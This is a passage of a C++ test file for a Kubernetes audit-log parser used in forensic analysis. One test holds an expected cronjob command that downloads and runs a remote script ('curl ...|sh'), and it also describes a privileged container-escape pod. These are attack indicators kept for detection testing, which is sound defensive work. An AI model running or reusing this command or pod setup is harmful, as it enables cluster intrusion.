    ASSERT_FALSE(parsed.events.back()[Text::kMessage].empty()) << line;
  }
}

TEST(K8sAudit, ReadsAuditToRbacsDemo) {
  const std::optional<std::string> demo = SharedLog("audit2rbac/testdata/demo.log");
  if (!demo) GTEST_SKIP() << kNoSharedLogs;
  Parsed parsed;
  ParseLines(*demo, parsed);
  EXPECT_EQ(std::ranges::count(*demo, '\n'), static_cast<int>(parsed.events.size()));
  std::map<std::string, int> users;
  for (const Event& event : parsed.events) ++users[event[Text::kTags]];
  EXPECT_EQ(users, (std::map<std::string, int>{
                       {"impersonated=alice level=Metadata", 3},
                       {"impersonated=bob level=Metadata", 29},
                       {"impersonated=system:serviceaccount:ns1:sa1 level=Metadata", 5},
                   }));
}

// Falco's records of 2018 (v1beta1), one a file: two kinds of pods that its rules find.
TEST(K8sAudit, ReadsPodsOfFalcosTests) {
  for (const auto& [name, tags] : std::map<std::string, std::string>{
           {"privileged_2nd_container", "level=RequestResponse privileged"},
           {"unprivileged", "level=RequestResponse"},
           {"hostnetwork", "level=RequestResponse host_network"},
           {"nohostnetwork", "level=RequestResponse"},
           {"sensitive_mount", "level=RequestResponse host_path=/etc"}}) {
    const std::optional<std::string> file =
        SharedLog("falco_k8s_audit/test/trace_files/k8s_audit/create_nginx_pod_" + name + ".json");
    if (!file) GTEST_SKIP() << kNoSharedLogs;
    Parsed parsed;
    ParseLines(*file, parsed);
    ASSERT_EQ(parsed.events.size(), 1U) << name;
    EXPECT_EQ(parsed.events[0][Text::kTags], tags) << name;
  }
}

// What was done to the laboratory cluster stands beside its disk; see evidence/README.md.
TEST(K8sAudit, TellsTheStoryOfTheLaboratoryCluster) {
  const std::optional<std::string> log =
      SharedLog("../evidence/node-k8s/logs/kube-apiserver-audit.log");
  if (!log) GTEST_SKIP() << kNoSharedLogs;
  Parsed parsed;
  ParseLines(*log, parsed);
  EXPECT_EQ(parsed.events.size(), 1138U);
  EXPECT_TRUE(parsed.diagnostics.Sorted().empty());
  const auto count = [&](auto&& matches) { return std::ranges::count_if(parsed.events, matches); };
  EXPECT_EQ(count([](const Event& event) { return event[Text::kObjectKind] == "pods/exec"; }), 16);
  EXPECT_EQ(count([](const Event& event) {
              return event[Text::kObjectKind] == "pods/exec" &&
                     event[Text::kAccessKeyId] == "AKIAEXAMPLECI0000002" &&
                     !event[Text::kCommandLine].empty() && !event[Text::kContainer].empty();
            }),
            16);
  EXPECT_EQ(count([](const Event& event) {
              return event[Text::kTags].find("anonymous") != std::string::npos &&
                     event[Text::kOutcome] == "failure";
            }),
            5);
  EXPECT_EQ(
      count([](const Event& event) {
        return event[Text::kTags] == "level=RequestResponse role=cluster-admin subject=default" ||
               event[Text::kTags] == "level=RequestResponse role=cluster-admin subject=eks-support";
      }),
      2);
  const auto escape = std::ranges::find_if(parsed.events, [](const Event& event) {
    return event[Text::kObjectName] == "node-health-checker" && event[Text::kAction] == "create" &&
           event[Text::kObjectKind] == "pods";
  });
  ASSERT_NE(escape, parsed.events.end());
  EXPECT_EQ((*escape)[Text::kTags],
            "level=RequestResponse host_pid host_network host_path=/ cap_add=SYS_ADMIN "
            "cap_add=SYS_PTRACE cap_add=SYS_CHROOT");
  EXPECT_EQ((*escape)[Text::kPodUid], "25f303f7-6bcf-48aa-ada0-dde522ef9e6b");
  EXPECT_EQ(count([](const Event& event) {
              return event[Text::kObjectKind] == "cronjobs" && event[Text::kAction] == "create" &&
                     event[Text::kCommandLine] == "sh -c 'curl http://198.51.100.23/b.sh|sh'";
            }),
            1);
}

// IRSA: the annotation of a service account names the role that its pods may assume.
TEST(K8sAudit, SaysWhichServiceAccountMayAssumeARole) {
  const std::string begin =
      R"({"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"RequestResponse","auditID":"a","stage":"ResponseComplete","verb":"patch","requestURI":"/x","user":{"username":"alice"},"responseStatus":{"code":200},"objectRef":{"resource":"serviceaccounts","namespace":"shop","name":"cart"},"requestObject":)";
  const std::string role = R"("arn:aws:iam::123456789012:role/cart")";
  for (const std::string& request :
       {R"({"metadata":{"annotations":{"a":"b","eks.amazonaws.com/role-arn":)" + role + "}}}",
        R"([{"op":"add","path":"/metadata/annotations/eks.amazonaws.com~1role-arn","value":)" +
            role + "}]"}) {
    Parsed parsed;
    testing::Parse(AuditFormat(), begin + request + "}", parsed);
    ASSERT_EQ(parsed.events.size(), 1U) << request;
    EXPECT_EQ(parsed.events[0][Text::kTags],
              "level=RequestResponse for_service_account=shop/cart "
              "granted_role=arn:aws:iam::123456789012:role/cart");
  }
}

}  // namespace
}  // namespace ekshume::log::k8s_audit
